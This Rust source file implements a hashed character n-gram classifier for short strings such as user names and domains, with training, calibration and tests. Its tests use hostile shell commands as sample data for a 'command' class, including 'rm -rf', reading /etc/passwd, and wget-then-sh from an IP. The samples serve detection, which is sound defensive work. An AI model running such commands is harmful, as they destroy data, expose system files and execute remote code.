//! What kind of text a short string is, by its character n-grams: multinomial logistic regression on hashed features
//! (Weinberger et al., "Feature Hashing for Large Scale Multitask Learning", 2009). For user names and names of domains.
//!
//! Features of a string are its n-grams of 1 to [`LONGEST`] characters, with marks for beginning and end, and those of its
//! shape, in which each letter, digit or sign stands for its kind. Each counts once; all are scaled so that a long string has
//! no more to say than a short one.

use crate::LearnError;
use crate::codec::{CodecError, Pack, ensure};
use crate::random::Random;
use crate::tree::boosting::softmax;
use serde::{Deserialize, Serialize};

/// Characters of the longest n-gram.
pub const LONGEST: usize = 4;
/// Characters of a string that are looked at: what a name is shows at its beginning, and input may be hostile.
pub const MOST_CHARACTERS: usize = 128;

/// Log2 of the number of features there may be.
const BITS: std::ops::RangeInclusive<u32> = 8..=20;

/// How to train.
#[derive(Clone, Copy, Debug, PartialEq)]
pub struct Options {
    /// Log2 of the number of features, 8..=20.
    pub bits: u32,
    /// Passes over the samples, at least 1.
    pub epochs: usize,
    /// AdaGrad's step size.
    pub rate: f32,
    /// L2 term on weights in use.
    pub l2: f32,
    /// Seed of the order.
    pub seed: u64,
}

impl Default for Options {
    fn default() -> Self {
        Self { bits: 14, epochs: 8, rate: 0.5, l2: 1e-6, seed: 0 }
    }
}

/// A trained classifier.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
pub struct Classifier {
    classes: Vec<String>,
    bits: u32,
    /// By feature, then class.
    weights: Vec<f32>,
    bias: Vec<f32>,
}

impl Pack for Classifier {
    const KIND: [u8; 4] = *b"ngra";
    const VERSION: u16 = 1;

    fn check(&self) -> Result<(), CodecError> {
        let k = self.classes.len();
        ensure(k >= 2 && BITS.contains(&self.bits), "the number of classes or features")?;
        ensure(self.bias.len() == k && self.weights.len() == k << self.bits, "the number of weights")?;
        ensure(self.weights.iter().chain(&self.bias).all(|w| w.is_finite()), "a weight")
    }
}

/// An n-gram and what it said for a class.
#[derive(Clone, Debug, PartialEq, Serialize)]
pub struct Gram {
    /// The n-gram; `^` and `$` are the ends of the string. Those of shape are in angle brackets.
    pub text: String,
    /// What it added to the class's score over the mean of all classes.
    pub weight: f32,
}

/// The mark of a beginning, and of an end.
const ENDS: [char; 2] = ['\u{2}', '\u{3}'];

/// The kind of a character.
fn shape(c: char) -> char {
    match c {
        'a'..='z' => 'a',
        'A'..='Z' => 'A',
        '0'..='9' => '0',
        '\u{2}' | '\u{3}' => c,
        ' ' | '\t' => ' ',
        c if c.is_alphabetic() => 'e',
        c if c.is_control() => '\u{1}',
        c if c.is_ascii_punctuation() => c,
        _ => '?',
    }
}

/// FNV-1a over the code points, mixed at the end.
fn hash(gram: &[char], salt: u64) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325_u64 ^ salt;
    for c in gram {
        h = (h ^ u64::from(*c as u32)).wrapping_mul(0x0000_0100_0000_01b3);
    }
    (h ^ (h >> 32)).wrapping_mul(0xd6e8_feb8_6659_fd93)
}

/// Calls `f` with each feature of a string: its place, its characters, whether it is of the shape.
fn each_feature(text: &str, bits: u32, mut f: impl FnMut(usize, &[char], bool)) {
    let mut plain = vec![ENDS[0]];
    plain.extend(text.chars().take(MOST_CHARACTERS).filter(|c| !ENDS.contains(c)));
    plain.push(ENDS[1]);
    let shapes: Vec<char> = plain.iter().map(|c| shape(*c)).collect();
    for (chars, is_shape) in [(&plain, false), (&shapes, true)] {
        for n in 1..=LONGEST {
            for gram in chars.windows(n) {
                let place = hash(gram, u64::from(is_shape) << 8 | n as u64) >> (64 - bits);
                f(place as usize, gram, is_shape);
            }
        }
    }
}

/// The features of a string without repeats.
fn features(text: &str, bits: u32) -> Vec<u32> {
    let mut all = Vec::with_capacity(64);
    each_feature(text, bits, |place, _, _| all.push(place as u32));
    all.sort_unstable();
    all.dedup();
    all
}

impl Classifier {
    /// Trains on (string, class, weight), with names for the classes.
    ///
    /// # Errors
    /// No samples, one class only, a class without a name, or options out of range.
    pub fn train(
        samples: &[(&str, u32, f32)],
        classes: &[&str],
        options: &Options,
    ) -> Result<Self, LearnError> {
        if samples.is_empty() {
            return Err(LearnError::Empty);
        }
        if let Some((_, c, _)) = samples.iter().find(|(_, c, _)| *c as usize >= classes.len()) {
            return Err(LearnError::Shape { what: "a class", expected: classes.len(), found: *c as usize });
        }
        if samples.iter().all(|s| s.1 == samples[0].1) {
            return Err(LearnError::OneClass);
        }
        if !BITS.contains(&options.bits) || options.epochs == 0 {
            return Err(LearnError::Option { option: "bits and epochs", expected: "8 to 20 and at least 1" });
        }
        if !(options.rate > 0.0 && options.rate.is_finite() && options.l2 >= 0.0) {
            return Err(LearnError::Option { option: "rate and l2", expected: "above 0 and at least 0" });
        }
        let k = classes.len();
        let mut model = Self {
            classes: classes.iter().map(|c| (*c).to_owned()).collect(),
            bits: options.bits,
            weights: vec![0.0; k << options.bits],
            bias: vec![0.0; k],
        };
        let mut squares = vec![0.0_f32; model.weights.len()];
        let mut bias_squares = vec![0.0_f32; k];
        let prepared: Vec<Vec<u32>> = samples.iter().map(|(text, ..)| features(text, options.bits)).collect();
        let mut order: Vec<usize> = (0..samples.len()).collect();
        let mut p = vec![0.0; k];
        for epoch in 0..options.epochs {
            Random::new(options.seed, epoch as u64).shuffle(&mut order);
            for i in &order {
                let (_, class, weight) = samples[*i];
                let scale = model.scores(&prepared[*i], &mut p);
                softmax(&mut p);
                for (c, p) in p.iter().enumerate() {
                    let error = weight * (p - f32::from(u8::from(c == class as usize)));
                    bias_squares[c] += error * error;
                    model.bias[c] -= options.rate * error / (bias_squares[c].sqrt() + 1e-6);
                    for f in &prepared[*i] {
                        let at = *f as usize * k + c;
                        let g = error * scale + options.l2 * model.weights[at];
                        squares[at] += g * g;
                        model.weights[at] -= options.rate * g / (squares[at].sqrt() + 1e-6);
                    }
                }
            }
        }
        Ok(model)
    }

    /// Makes probabilities mean what they say, by samples that were not trained on: divides all scores by one temperature,
    /// which loses the fewest bits about them (Guo et al., "On Calibration of Modern Neural Networks", 2017, §4.2). Which class
    /// is the most probable does not change. Returns the temperature, 1/16..=16.
    ///
    /// # Errors
    /// No samples, or a class out of range.
    pub fn temper(&mut self, samples: &[(&str, u32, f32)]) -> Result<f64, LearnError> {
        if samples.is_empty() {
            return Err(LearnError::Empty);
        }
        let k = self.classes.len();
        if let Some((_, c, _)) = samples.iter().find(|(_, c, _)| *c as usize >= k) {
            return Err(LearnError::Shape { what: "a class", expected: k, found: *c as usize });
        }
        let rows: Vec<(Vec<f32>, usize, f64)> = samples
            .iter()
            .map(|(text, class, weight)| {
                let mut scores = vec![0.0; k];
                self.scores(&features(text, self.bits), &mut scores);
                (scores, *class as usize, f64::from(*weight))
            })
            .collect();
        // The loss is convex in the factor; its slope is the mean excess of expected over own score.
        let slope = |factor: f64| -> f64 {
            rows.iter()
                .map(|(scores, class, weight)| {
                    let mut p: Vec<f32> = scores.iter().map(|s| (f64::from(*s) * factor) as f32).collect();
                    softmax(&mut p);
                    let expected: f64 = scores.iter().zip(&p).map(|(s, p)| f64::from(s * p)).sum();
                    weight * (expected - f64::from(scores[*class]))
                })
                .sum()
        };
        let (mut low, mut high) = (1.0 / 16.0, 16.0_f64);
        for _ in 0..40 {
            let middle = (low * high).sqrt();
            if slope(middle) > 0.0 { high = middle } else { low = middle }
        }
        let factor = (low * high).sqrt();
        for w in self.weights.iter_mut().chain(&mut self.bias) {
            *w = (f64::from(*w) * factor) as f32;
        }
        Ok(1.0 / factor)
    }

    /// Names of the classes.
    #[must_use]
    pub fn classes(&self) -> &[String] {
        &self.classes
    }

    /// Probability of each class.
    #[must_use]
    pub fn predict(&self, text: &str) -> Vec<f32> {
        let mut p = vec![0.0; self.classes.len()];
        self.scores(&features(text, self.bits), &mut p);
        softmax(&mut p);
        p
    }

    /// The `n` n-grams that said most for a class.
    #[must_use]
    pub fn reasons(&self, text: &str, class: usize, n: usize) -> Vec<Gram> {
        let k = self.classes.len();
        let mut all: Vec<(usize, Gram)> = Vec::new();
        let count = features(text, self.bits).len() as f32;
        each_feature(text, self.bits, |place, gram, is_shape| {
            let weights = &self.weights[place * k..(place + 1) * k];
            let Some(own) = weights.get(class) else { return };
            let weight = (own - weights.iter().sum::<f32>() / k as f32) / count.sqrt();
            if weight > 0.0 && all.iter().all(|(p, _)| *p != place) {
                let plain = |c: &char| match *c {
                    '\u{2}' => '^',
                    '\u{3}' => '$',
                    c if c.is_control() => '?',
                    c => c,
                };
                let text: String = gram.iter().map(plain).collect();
                all.push((place, Gram { text: if is_shape { format!("<{text}>") } else { text }, weight }));
            }
        });
        all.sort_by(|a, b| b.1.weight.total_cmp(&a.1.weight).then_with(|| a.1.text.cmp(&b.1.text)));
        all.into_iter().take(n).map(|(_, gram)| gram).collect()
    }

    /// Scores of the classes; returns what each feature counted.
    fn scores(&self, features: &[u32], out: &mut [f32]) -> f32 {
        let k = out.len();
        let scale = 1.0 / (features.len().max(1) as f32).sqrt();
        out.fill(0.0);
        for f in features {
            let weights = &self.weights[*f as usize * k..(*f as usize + 1) * k];
            out.iter_mut().zip(weights).for_each(|(o, w)| *o += w);
        }
        out.iter_mut().zip(&self.bias).for_each(|(o, b)| *o = *o * scale + b);
        scale
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::metric::largest;

    fn model() -> Classifier {
        let words = ["alice", "bob", "carol", "david", "erika", "frank", "maria", "peter", "susan", "tom"];
        let mut samples = Vec::new();
        let mut texts = Vec::new();
        for (i, w) in words.iter().enumerate() {
            texts.push((format!("{w}.{}", words[(i + 3) % 10]), 0));
            texts.push((format!("{w}@example.{}", if i % 2 == 0 { "org" } else { "com" }), 1));
            texts.push((format!("rm -rf /srv/{w}; cat /etc/passwd | sh"), 2));
        }
        texts.iter().for_each(|(t, c)| samples.push((t.as_str(), *c, 1.0)));
        Classifier::train(&samples, &["person", "mail", "command"], &Options::default()).unwrap()
    }

    #[test]
    fn strings_never_seen_are_told_apart() {
        let m = model();
        for (text, class) in [
            ("martin.karlsson", 0),
            ("info@shop.example.net", 1),
            ("sudo rm -rf /", 2),
            ("wget http://192.0.2.1/x; sh x", 2),
        ] {
            let p = m.predict(text);
            assert_eq!(largest(&p), class, "{text}: {p:?}");
            assert!((p.iter().sum::<f32>() - 1.0).abs() < 1e-5);
        }
    }

    #[test]
    fn tempered_probabilities_are_as_often_right_as_they_say() {
        let mut m = model();
        // Three of four are persons, whatever their names look like.
        let held_out: Vec<(&str, u32, f32)> =
            (0..400).map(|i| ("martin.karlsson", u32::from(i % 4 == 0), 1.0)).collect();
        let before = m.predict("martin.karlsson");
        let temperature = m.temper(&held_out).unwrap();
        let after = m.predict("martin.karlsson");
        assert_eq!(largest(&before), largest(&after));
        assert!(temperature > 1.0 && before[0] > 0.9, "{temperature} {before:?}");
        assert!((0.55..0.85).contains(&after[0]), "{after:?}");
        assert_eq!(m.temper(&[]), Err(LearnError::Empty));
        assert!(m.temper(&[("x", 3, 1.0)]).is_err());
    }

    #[test]
    fn the_reasons_are_n_grams_of_the_string() {
        let reasons = model().reasons("erik@example.org", 1, 5);
        assert!(reasons.iter().any(|g| g.text.contains('@')), "{reasons:?}");
        assert!(reasons.windows(2).all(|w| w[0].weight >= w[1].weight));
        assert!(model().reasons("a", 9, 5).is_empty());
    }

    #[test]
    fn hostile_and_empty_strings_have_probabilities() {
        let m = model();
        for text in ["", "\u{0}\u{2}\u{3}", &"A".repeat(100_000), "\u{1f980}\u{202e}"] {
            assert!(m.predict(text).iter().all(|p| p.is_finite()), "{text:?}");
        }
        assert_eq!(m.predict(&"A".repeat(100_000)), m.predict(&"A".repeat(MOST_CHARACTERS)));
    }

    #[test]
    fn bad_samples_are_refused() {
        let train = |s: &[(&str, u32, f32)]| Classifier::train(s, &["a", "b"], &Options::default()).err();
        assert_eq!(train(&[]), Some(LearnError::Empty));
        assert_eq!(train(&[("x", 0, 1.0)]), Some(LearnError::OneClass));
        assert!(matches!(train(&[("x", 0, 1.0), ("y", 2, 1.0)]), Some(LearnError::Shape { .. })));
    }
}
